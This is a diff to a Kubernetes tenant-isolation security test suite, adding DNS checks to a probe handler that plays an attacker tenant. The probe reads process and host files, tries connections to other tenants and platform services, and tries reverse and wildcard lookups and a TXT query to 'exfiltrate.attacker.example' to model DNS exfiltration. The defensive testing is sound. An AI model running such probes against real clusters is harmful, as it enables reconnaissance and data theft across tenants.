@@ -2,7 +2,8 @@
 // attacker deploys it. A handler of account A prints its uid, lists `/`, reads the host's secrets,
 // and connects to another account's machine, to the API, the kubelet, PostgreSQL and the outside
 // world; every one must fail, while the same handler sees its own files and env and reaches the
-// one platform port it needs (the apiserver's Service among what it must not reach). A pod with no
+// one platform port it needs (the apiserver's Service among what it must not reach), and learns
+// from the cluster DNS the cluster's names and nothing else. A pod with no
 // NetworkPolicy at all still cannot reach the host but for the apiserver's Service: the nodes'
 // firewall holds on its own. And a tenant's own image, pushed to the local registry, runs.
 import assert from 'node:assert/strict';
@@ -30,6 +31,15 @@ const gateway = '10.244.0.1';
 /** The attacker's handler: what it is, what it sees, what it reaches. */
 const probeHandler = `import { readdirSync, readFileSync } from 'node:fs';
 import net from 'node:net';
+import dns from 'node:dns';
+const resolver = new dns.promises.Resolver({ timeout: 3000, tries: 1 });
+const lookup = async ([kind, name]) => {
+  try {
+    return kind === 'PTR' ? await resolver.reverse(name) : await resolver.resolve(name, kind);
+  } catch (e) {
+    return e.code;
+  }
+};
 const attempt = (host, port) => new Promise((resolve) => {
   const s = net.connect({ host, port });
   const t = setTimeout(() => { s.destroy(); resolve('timeout'); }, 3000);
@@ -41,6 +51,7 @@ export default async (req) => {
   const q = new URL(req.url).searchParams;
   const targets = JSON.parse(q.get('connect') ?? '[]');
   const paths = JSON.parse(q.get('read') ?? '[]');
+  const names = JSON.parse(q.get('lookup') ?? '[]');
   return {
     uid: process.getuid(), gid: process.getgid(),
     uidMap: readFileSync('/proc/self/uid_map', 'utf8'),
@@ -48,6 +59,8 @@ export default async (req) => {
     caps: readFileSync('/proc/self/status', 'utf8').split('\\n').filter((l) => /^Cap(Eff|Prm|Bnd)/.test(l)),
     reads: Object.fromEntries(paths.map((p) => [p, read(p)])),
     connects: Object.fromEntries(await Promise.all(targets.map(async ([h, p]) => [h + ':' + p, await attempt(h, p)]))),
+    lookups: Object.fromEntries(await Promise.all(names.map(async (n) => [n.join(' '), await lookup(n)]))),
+    resolvConf: readFileSync('/etc/resolv.conf', 'utf8'),
     mark: process.env.PROBE_MARK ?? null,
     own: readdirSync('/srv/site').sort(),
     site: process.env.SVC_SITE_ROOT,
@@ -64,6 +77,8 @@ interface ProbeAnswer {
   caps: string[];
   reads: Record<string, string>;
   connects: Record<string, string>;
+  lookups: Record<string, unknown>;
+  resolvConf: string;
   mark: string | null;
   own: string[];
   site: string;
@@ -98,8 +113,16 @@ describe('security: tenant isolation on the real nodes', () => {
       },
       { timeoutMs: 90_000, intervalMs: 250 },
     );
-  const probe = async (q: { connect?: Array<[string, number]>; read?: string[] }): Promise<ProbeAnswer> => {
-    const params = new URLSearchParams({ connect: JSON.stringify(q.connect ?? []), read: JSON.stringify(q.read ?? []) });
+  const probe = async (q: {
+    connect?: Array<[string, number]>;
+    read?: string[];
+    lookup?: Array<[string, string]>;
+  }): Promise<ProbeAnswer> => {
+    const params = new URLSearchParams({
+      connect: JSON.stringify(q.connect ?? []),
+      read: JSON.stringify(q.read ?? []),
+      lookup: JSON.stringify(q.lookup ?? []),
+    });
     const r = await via(probeApp, `/api/probe?${params.toString()}`);
     assert.equal(r.status, 200, r.body);
     return JSON.parse(r.body) as ProbeAnswer;
@@ -194,7 +217,7 @@ describe('security: tenant isolation on the real nodes', () => {
 
   it('sees its own files and its own env', async () => {
     const a = await probe({});
-    // The site root: the marker the startup probe reads, the revisions kept (no order taken yet).
+    // The site root: the marker of the digest in place, the revisions kept (no order taken yet).
     assert.deepEqual(a.own, ['.svc-artifact', 'revs']);
     // Its own revision's tree is where its process runs from, with the marker and the verified
     // archive the runtime rebuilds it from (never served).
@@ -230,6 +253,38 @@ describe('security: tenant isolation on the real nodes', () => {
     assert.equal(a.connects[`${victimIP}:8080`], 'ECONNREFUSED');
     assert.equal(a.connects[`${victimSiteIP}:9099`], 'ECONNREFUSED');
     assert.equal(a.connects[`${gateway}:${apiPort}`], 'ECONNREFUSED');
+  });
+
+  it('resolves the cluster’s names and learns nothing else from the cluster DNS: no reverse names, no wildcards, no way out', async () => {
+    const core = kubeConfig().makeApiClient(k8s.CoreV1Api);
+    const serviceOf = async (namespace: string, app: string) =>
+      (await core.listNamespacedService({ namespace, labelSelector: `svc.dev/app=${app}` })).items[0]!;
+    const own = await serviceOf(attacker.account.namespace, probeApp);
+    const theirs = await serviceOf(victim.account.namespace, victimApp);
+    const a = await probe({
+      lookup: [
+        ['A', `${own.metadata!.name!}.${attacker.account.namespace}.svc.cluster.local`],
+        ['A', 'kubernetes.default.svc.cluster.local'],
+        // A PTR of the victim's Service or machine would name its account's namespace and its app.
+        ['PTR', theirs.spec!.clusterIP!],
+        ['PTR', victimIP],
+        ['A', `${victimIP.replaceAll('.', '-')}.${victim.account.namespace}.pod.cluster.local`],
+        ['A', '*.*.svc.cluster.local'],
+        ['A', `any.${victim.account.namespace}.svc.cluster.local`],
+        ['SRV', `_tcp.*.${victim.account.namespace}.svc.cluster.local`],
+        // DNS as a way out of a cluster the machine has no way out of: nothing is forwarded.
+        ['A', 'example.com'],
+        ['TXT', 'exfiltrate.attacker.example'],
+      ],
+    });
+    assert.match(a.resolvConf, /^nameserver 10\.96\.0\.10$/m, a.resolvConf);
+    const answer = (kind: string, name: string) => a.lookups[`${kind} ${name}`];
+    assert.deepEqual(answer('A', `${own.metadata!.name!}.${attacker.account.namespace}.svc.cluster.local`), [own.spec!.clusterIP]);
+    assert.deepEqual(answer('A', 'kubernetes.default.svc.cluster.local'), ['10.96.0.1']);
+    for (const [query, result] of Object.entries(a.lookups).slice(2)) {
+      assert.equal(typeof result, 'string', `${query} must not be answered (got ${JSON.stringify(result)})`);
+      assert.notEqual(result, 'ETIMEOUT', `${query} is answered at once, not left to time out`);
+    }
   });
 
   it('leaves the victim served through ingress-auth, and the host reaching it', async () => {
